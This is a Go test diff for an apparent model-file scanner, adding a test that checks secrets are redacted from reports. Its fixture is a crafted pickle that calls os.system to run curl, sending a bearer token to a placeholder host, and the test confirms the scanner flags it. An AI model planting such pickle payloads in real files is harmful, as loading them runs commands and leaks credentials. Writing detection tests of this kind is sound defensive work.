@@ -260,3 +260,24 @@ func TestFolderDependentVerdictsAreNotCached(t *testing.T) {
 		t.Errorf("symlinked external data not flagged: %v", rulesOf(second))
 	}
 }
+
+// TestSecretsRedactedEverywhere: a token quoted by any analyzer (here a
+// pickle's call arguments) never reaches the report.
+func TestSecretsRedactedEverywhere(t *testing.T) {
+	token := "hf_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDeFgH"
+	dir := writeTree(t, map[string]string{"leak.pkl": "cos\nsystem\n(S'curl -H \"Authorization: Bearer " + token + "\" https://example.invalid'\ntR."})
+	f := runScan(t, scan.Options{Explain: true}, dir)[filepath.Join(dir, "leak.pkl")]
+	for _, x := range f.Findings {
+		if strings.Contains(x.Evidence+x.Message, token) {
+			t.Errorf("token in finding: %s", x.Evidence)
+		}
+	}
+	for _, l := range f.Listings {
+		if strings.Contains(l.Text, token) {
+			t.Error("token in listing")
+		}
+	}
+	if !slices.Contains(rulesOf(f), finding.RulePickleDangerous) {
+		t.Error("payload not reported")
+	}
+}
